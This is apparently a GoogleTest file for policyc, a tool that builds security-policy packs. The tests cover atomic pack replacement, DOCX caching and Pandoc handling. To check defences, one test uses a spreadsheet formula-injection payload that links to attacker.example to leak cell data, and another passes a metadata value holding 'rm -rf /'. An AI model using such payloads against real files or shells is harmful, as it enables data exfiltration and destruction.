#include "emit/pack_writer.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "base/file_system.h"
#include "emit/zip_archive.h"
#include "support/test_support.h"

namespace policyc::emit {
namespace {

namespace fs = std::filesystem;

model::ResolvedPack SmallPack() {
  model::ResolvedPack pack;
  pack.profile_id = "org";
  pack.as_of = "2026-11-01";
  pack.organisation.name = "Org";
  model::ResolvedDocument doc;
  doc.id = "policy";
  doc.title = "Policy";
  doc.kind = "policy";
  pack.documents.push_back(doc);
  model::SoaRow row;
  row.control = "A.5.1";
  row.title = "Policies for information security";
  row.justification = "Required, and implemented";
  row.status = "planned";
  row.implemented_by = {"policy#one", "policy#two"};
  pack.soa.push_back(row);
  return pack;
}

class EmitPackWriter : public ::testing::Test {
 protected:
  void SetUp() override {
    out_ = testing::MakeTempDir();
    base::DiskFileSystem fs;
    auto templates = render::LoadTemplates(fs, testing::SourceDir() + "/templates", sink_);
    ASSERT_TRUE(templates.has_value());
    templates_ = *templates;
    fs::create_directories(out_ + "/org");
    std::ofstream(out_ + "/org/keep.txt") << "the user's previous pack";
  }
  void TearDown() override { fs::remove_all(out_); }

  std::string out_;
  base::DiagnosticSink sink_;
  render::Templates templates_;
};

TEST_F(EmitPackWriter, AFailedConversionLeavesThePreviousPackUntouched) {
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml, Format::kDocx};
  const std::string failing_script = out_ + "/failing-pandoc";
  std::ofstream(failing_script) << "#!/bin/sh\n[ \"$1\" = --version ] && echo 'pandoc 2.17.1.1' && exit 0\n"
                                   "echo 'pandoc: cannot parse input' >&2; exit 64\n";
  fs::permissions(failing_script, fs::perms::owner_all);
  PandocRunner failing(failing_script);  // a "pandoc" that fails every conversion
  EXPECT_FALSE(WritePack(SmallPack(), templates_, options, failing, sink_));
  EXPECT_EQ(testing::Formatted(sink_),
            "policyc: error: making docx/policy.docx failed: pandoc exited with status 64: pandoc: "
            "cannot parse input; the previous pack was left as it was [emit.tool-failed]\n");
  EXPECT_TRUE(fs::exists(out_ + "/org/keep.txt"));
  EXPECT_FALSE(fs::exists(out_ + "/org/index.html"));
  EXPECT_FALSE(fs::exists(out_ + "/.org.staging"));
}

TEST_F(EmitPackWriter, ASuccessfulBuildReplacesThePackWhole) {
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml};
  PandocRunner unused("false");
  EXPECT_TRUE(WritePack(SmallPack(), templates_, options, unused, sink_));
  EXPECT_FALSE(fs::exists(out_ + "/org/keep.txt"));
  EXPECT_TRUE(fs::exists(out_ + "/org/index.html"));
  EXPECT_TRUE(fs::exists(out_ + "/org/policy.html"));
  EXPECT_TRUE(fs::exists(out_ + "/org/pack.json"));
  EXPECT_EQ(testing::ReadFileOrEmpty(out_ + "/org/soa.csv"),
            "control,title,applicable,justification,status,owner,implemented_by\n"
            "A.5.1,Policies for information security,yes,\"Required, and implemented\",planned,,policy#one policy#two\n");
  EXPECT_FALSE(fs::exists(out_ + "/org/docx"));
}

// Issue 14, point 11: soa.csv holds no live formula.
TEST_F(EmitPackWriter, SoaCsvNeutralisesFormulas) {
  model::ResolvedPack pack = SmallPack();
  pack.soa[0].applicable = false;
  pack.soa[0].justification = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
  pack.soa[0].title = "@SUM(1+1)";
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml};
  PandocRunner unused("false");
  ASSERT_TRUE(WritePack(pack, templates_, options, unused, sink_));
  EXPECT_EQ(testing::ReadFileOrEmpty(out_ + "/org/soa.csv"),
            "control,title,applicable,justification,status,owner,implemented_by\n"
            "A.5.1,\"'@SUM(1+1)\",no,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Click\"\")\",excluded,,"
            "policy#one policy#two\n");
}

TEST_F(EmitPackWriter, ARebuildWithNothingChangedRunsNoProgram) {
  const std::string fake = out_ + "/fake-pandoc";
  // A "pandoc" that fails while fake-pandoc.fail exists: the same program
  // (so the same tool fingerprint), but it must not be run when nothing changed.
  std::ofstream(fake) << "#!/bin/sh\n[ \"$1\" = --version ] && echo 'pandoc 2.17.1.1' && exit 0\n"
                         "[ -e \"$0.fail\" ] && exit 1\n"
                         "for a in \"$@\"; do case \"$a\" in --output=*) o=\"${a#--output=}\";; esac; done\n"
                         "cp \"$0.docx\" \"$o\"\n";
  std::string zip_error;
  ASSERT_TRUE(WriteZip(fake + ".docx",
                       {{"word/document.xml", "converted"},
                        {"word/settings.xml",
                         "<w:settings><w:zoom w:percent=\"100\" /><w:updateFields w:val=\"true\" /></w:settings>"}},
                       0, &zip_error));
  const PandocRunner runner(fake);
  auto fail_from_now_on = [&](bool on) {
    if (on) std::ofstream(fake + ".fail") << "";
    else fs::remove(fake + ".fail");
  };
  fs::permissions(fake, fs::perms::owner_all);
  BuildOptions options;
  options.out_dir = out_;
  options.formats = {Format::kHtml, Format::kDocx};
  BuildStats stats;
  ASSERT_TRUE(WritePack(SmallPack(), templates_, options, runner, sink_, &stats))
      << testing::Formatted(sink_);
  EXPECT_EQ(stats.converted, 1);
  EXPECT_EQ(stats.reused, 0);
  fail_from_now_on(true);
  // Same inputs: the failing "pandoc" is never run, the output is reused.
  ASSERT_TRUE(WritePack(SmallPack(), templates_, options, runner, sink_, &stats))
      << testing::Formatted(sink_);
  EXPECT_EQ(stats.converted, 0);
  EXPECT_EQ(stats.reused, 1);
  std::string error;
  auto docx = ReadZip(out_ + "/org/docx/policy.docx", &error);
  ASSERT_TRUE(docx.has_value()) << error;
  EXPECT_EQ((*docx)[0].second, "converted");
  // The DOCX is finished (docx_package.h): Word is not asked to update fields on open.
  EXPECT_EQ((*docx)[1].second,
            "<w:settings><w:zoom w:percent=\"100\" /></w:settings>");
  // A changed document must be converted again.
  auto changed = SmallPack();
  changed.documents[0].title = "Policy, revised";
  EXPECT_FALSE(WritePack(changed, templates_, options, runner, sink_, &stats));
  // A tampered output is not trusted either.
  std::ofstream(out_ + "/org/docx/policy.docx") << "edited by hand";
  EXPECT_FALSE(WritePack(SmallPack(), templates_, options, runner, sink_, &stats));
  fail_from_now_on(false);
  EXPECT_TRUE(WritePack(SmallPack(), templates_, options, runner, sink_, &stats));
  EXPECT_EQ(stats.converted, 1);
}

TEST_F(EmitPackWriter, ConversionsRunPandocWithAnArgvAndWeasyPrintForPdf) {
  PandocRunner pandoc("pandoc");
  ConversionRequest request;
  request.input_path = "in.html";
  request.to = "pdf";
  request.output_path = "out dir/x.pdf";
  request.css = {"print.css"};
  request.metadata = {{"pagetitle", "A; rm -rf /"}};
  EXPECT_EQ(pandoc.Argv(request),
            (std::vector<std::string>{"pandoc", "--from=html", "--to=html5", "--standalone",
                                      "--output=out dir/x.pdf", "--pdf-engine=weasyprint",
                                      "--css=print.css", "--wrap=none", "--metadata=pagetitle:A; rm -rf /",
                                      "in.html"}));
}

TEST_F(EmitPackWriter, SaysWhenPandocIsMissing) {
  PandocRunner missing("policyc-no-such-pandoc");
  std::string why;
  EXPECT_FALSE(missing.CanConvert("docx", &why));
  EXPECT_EQ(why, "Pandoc is not installed, so docx cannot be made; install it (apt-get install "
                 "pandoc) or build with --format html");
}

TEST(EmitPandoc, RefusesPandocOlderThanTwoNine) {
  EXPECT_EQ(PandocRunner::CheckVersion("pandoc 2.17.1.1"), "");
  EXPECT_EQ(PandocRunner::CheckVersion("pandoc 3.1"), "");
  EXPECT_EQ(PandocRunner::CheckVersion("pandoc 2.5"),
            "pandoc 2.5 is too old; policyc needs Pandoc 2.9 or newer (Debian 12's pandoc is 2.17)");
  EXPECT_EQ(PandocRunner::CheckVersion("something else"), "cannot tell which Pandoc this is ('something else')");
}

TEST(EmitEpoch, ConvertsDatesForSourceDateEpoch) {
  EXPECT_EQ(EpochOf("1970-01-01"), "0");
  EXPECT_EQ(EpochOf("2026-11-01"), "1793491200");
}

TEST(EmitCli, MissingPandocStillBuildsHtmlAndExitsTwo) {
  const std::string out = testing::MakeTempDir();
  auto result = testing::RunPolicyc(
      {"build", "--base-library", "tests/data/mini", "tests/data/mini-org", "-o", out,
       "--format", "html,docx"},
      {{"PATH", "/nonexistent"}});
  EXPECT_EQ(result.exit_code, 2);
  // The diagnostics and their count first, then the result line.
  EXPECT_EQ(result.errors,
            "policyc: error: Pandoc is not installed, so docx cannot be made; install it "
            "(apt-get install pandoc) or build with --format html [emit.tool-missing]\n"
            "policyc: 1 error, 0 warnings\n"
            "policyc: wrote " + out + "/mini-org (10 documents; 0 converted, 0 unchanged)\n");
  EXPECT_TRUE(fs::exists(out + "/mini-org/index.html"));
  EXPECT_FALSE(fs::exists(out + "/mini-org/docx"));
  fs::remove_all(out);
}

}  // namespace
}  // namespace policyc::emit
